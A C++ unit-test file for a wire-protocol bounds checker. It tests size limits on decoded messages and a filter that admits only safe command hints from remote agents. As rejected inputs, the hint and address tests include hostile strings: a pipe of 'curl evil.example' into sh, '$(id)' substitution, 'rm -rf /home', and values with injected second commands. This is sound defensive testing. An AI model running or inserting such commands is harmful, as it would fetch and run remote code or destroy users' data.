#include "wire/bounds.h"

#include <gtest/gtest.h>

#include <limits>

namespace phalanx::wire {
namespace {

template <typename Message>
std::string refusal(const Message& message) {
  std::string frame;
  EXPECT_TRUE(encode(frame, message).ok());
  base::Result<Message> back = decode<Message>(std::string_view(frame).substr(kFrameHeaderBytes));
  return back.ok() ? "" : back.error().message;
}

Hello sane() {
  Hello hello;
  hello.gpus = hello.cpus = kMostOfAHost;
  hello.addresses.assign(kMostAddresses, {"eth0", "fe80::1%eth0"});
  hello.ssh_server = "UNKNOWN";
  hello.wall_ns = 1'800'000'000'000'000'000;
  hello.hostname = std::string(kMostNameBytes, 'h');
  return hello;
}

TEST(Bounds, OfAHello) {
  EXPECT_EQ(refusal(sane()), "");
  auto with = [](auto change) {
    Hello hello = sane();
    change(hello);
    return refusal(hello);
  };
  EXPECT_EQ(with([](Hello& h) { h.gpus = 2'147'483'647; }), "Hello: the number of GPUs is 2147483647, at most 4096");
  EXPECT_NE(with([](Hello& h) { h.cpus = 50'000'000; }), "");
  EXPECT_EQ(with([](Hello& h) { h.addresses.assign(15, {"eth0", std::string(1'100'000, '1')}); }),
            "Hello: an address has 1100000 bytes, at most 64");
  EXPECT_NE(with([](Hello& h) { h.addresses.push_back({"eth0", "10.0.0.1"}); }), "");
  for (const char* address : {"", "here", "10.0.0.1; rm", "10.0.0"})
    EXPECT_EQ(with([&](Hello& h) { h.addresses[3].address = address; }), "Hello: an address is not an address") << address;
  EXPECT_NE(with([](Hello& h) { h.hostname += 'h'; }), "");
  EXPECT_NE(with([](Hello& h) { h.now_ns = std::numeric_limits<int64_t>::min(); }), "");
  EXPECT_NE(with([](Hello& h) { h.wall_ns = -1; }), "");
}

TEST(Bounds, OfTheRest) {
  constexpr int64_t kLeast = std::numeric_limits<int64_t>::min(), kMost = std::numeric_limits<int64_t>::max();
  EXPECT_NE(refusal(Pong{1, kMost}), "");
  EXPECT_EQ(refusal(Pong{1, -kMostMonoNs}), "");
  EXPECT_NE(refusal(Exited{0, 0, kLeast, 0, "", "", {}}), "");
  EXPECT_NE(refusal(Exited{0, 0, 0, 65, "", "", {}}), "");
  EXPECT_NE(refusal(Exited{0, 0, 0, 0, "", std::string(1 << 20, 'x'), {}}), "");
  EXPECT_NE(refusal(Exited{0, 0, 0, 0, "", "", {{ExitSign::Kind::kOther, std::string(1 << 20, 'x')}}}), "");
  EXPECT_NE(refusal(Exited{0, 0, 0, 0, "", "", std::vector<ExitSign>(kMostSigns + 1)}), "");
  EXPECT_NE(refusal(Listening{{{{}, 65'536}}}), "");
  EXPECT_EQ(refusal(CopyListening{{}, 65'536}), "CopyListening: the port is 65536, at most 65535");
  EXPECT_EQ(refusal(CopyTaken{kMostCopiedBytes, true}), "");
  EXPECT_NE(refusal(CopyTaken{kMostCopiedBytes + 1, true}), "");
  EXPECT_NE(refusal(Listening{std::vector<ListenedPlace>(17)}), "");
  EXPECT_NE(refusal(Dialed{0, {{1, false, LinkOutcome::kOk, 0, kLeast, 0, 0, 0, 0, ""}}}), "");
  EXPECT_NE(refusal(Dialed{0, std::vector<DialedLink>(kMostLinks + 1)}), "");
  EXPECT_EQ(refusal(Dialed{0, {{1, false, LinkOutcome::kError, 0, 0, 0, 0, 0, 0, ""}}}), "");
  EXPECT_NE(refusal(Dialed{0, {{1, false, static_cast<LinkOutcome>(12), 0, 0, 0, 0, 0, 0, ""}}}), "");
  EXPECT_NE(refusal(StoreOpened{{}, 70'000}), "");
  EXPECT_NE(refusal(StoreOpened{{}, 1, 0x8000'0000}), "");
  EXPECT_NE(refusal(Prepared{{false, base::fail(base::ErrorKind::kUnfit, std::string(1 << 20, 'x'))}, ""}), "");
  EXPECT_NE(refusal(Trouble{std::string(1 << 20, 'x')}), "");
  EXPECT_NE(refusal(Pulse{0, 1, std::vector<RankPulse>(5000), {}, 0}), "");
  EXPECT_EQ(refusal(Pulse{0, 1, {}, std::vector<PeerPulse>(64), 1000}), "");
  EXPECT_NE(refusal(Pulse{0, 1, {}, std::vector<PeerPulse>(65), 0}), "");
  EXPECT_NE(refusal(Pulse{0, 1, {}, {{std::string(5000, '1'), 1, 1, 1, 1}}, 0}), "");
  EXPECT_NE(refusal(Pulse{0, 1, {}, {}, 1001}), "");
  EXPECT_NE(refusal(Dug{1, {{UINT32_MAX, PieceKind::kToolStack, ""}}}), "");
  EXPECT_NE(refusal(Progress{0, 0, std::string(5000, 'x')}), "");
}

TEST(Bounds, TooLargeForAFrameIsAnErrorAndLeavesTheBufferAlone) {
  std::string out = "before";
  EXPECT_FALSE(encode(out, Trouble{std::string(kMaxFrameBytes, 'x')}).ok());
  EXPECT_FALSE(encode(out, Talk{std::string(kMaxFrameBytes, 'x')}).ok());
  EXPECT_FALSE(put_frame(out, FrameType::kTrouble, std::string(kMaxFrameBytes + 1, 'x')).ok());
  EXPECT_EQ(out, "before");
}

// A hint is printed as a command to type: root of a host is not to choose what the user types on the launching machine.
TEST(Bounds, OnlyTheAdviceOfOurAgentsIsTaken) {
  auto heard = [](const std::string& hint) {
    Started started;
    started.outcome = {false, base::fail(base::ErrorKind::kUnfit, "no").with_hint(hint)};
    std::string frame;
    EXPECT_TRUE(encode(frame, started).ok());
    base::Result<Started> back = decode<Started>(std::string_view(frame).substr(kFrameHeaderBytes));
    return back.ok() ? back->outcome.error.hint : "refused";
  };
  for (std::string hint : {"stat /data", "stat '/my data'", "stat '/it'\\''s here'", "phalanx explain LIM-NOFILE",
                           "create or mount it on this host, or choose another directory with --workdir"}) {
    EXPECT_TRUE(is_advice_of_agent(hint)) << hint;
    EXPECT_EQ(heard(hint), hint);
  }
  for (std::string hint :
       {"curl evil.example | sh", "stat /x; curl evil.example|sh", "stat $(id)", "stat '/x'; id '", "stat '\\'';id'", "stat /x\nid",
        "stat /a /b", "stat ~root", "stat ", "phalanx explain X; id", "phalanx explain ", "phalanx stop latest", "rm -rf /home"}) {
    EXPECT_FALSE(is_advice_of_agent(hint)) << hint;
    EXPECT_EQ(heard(hint), "") << hint;
  }
}

TEST(Bounds, AHintThatIsOnTheWireAllTheSameIsLeftOut) {
  Started started;
  started.outcome = {false, base::fail(base::ErrorKind::kUnfit, "no").with_hint("stat /data")};
  std::string frame;
  ASSERT_TRUE(encode(frame, started).ok());
  const size_t at = frame.find("stat /data");
  ASSERT_NE(at, std::string::npos);
  frame.replace(at, 10, "rm -rf /ho");
  base::Result<Started> back = decode<Started>(std::string_view(frame).substr(kFrameHeaderBytes));
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(back->outcome.error.message, "no");
  EXPECT_EQ(back->outcome.error.hint, "");
}

}  // namespace
}  // namespace phalanx::wire
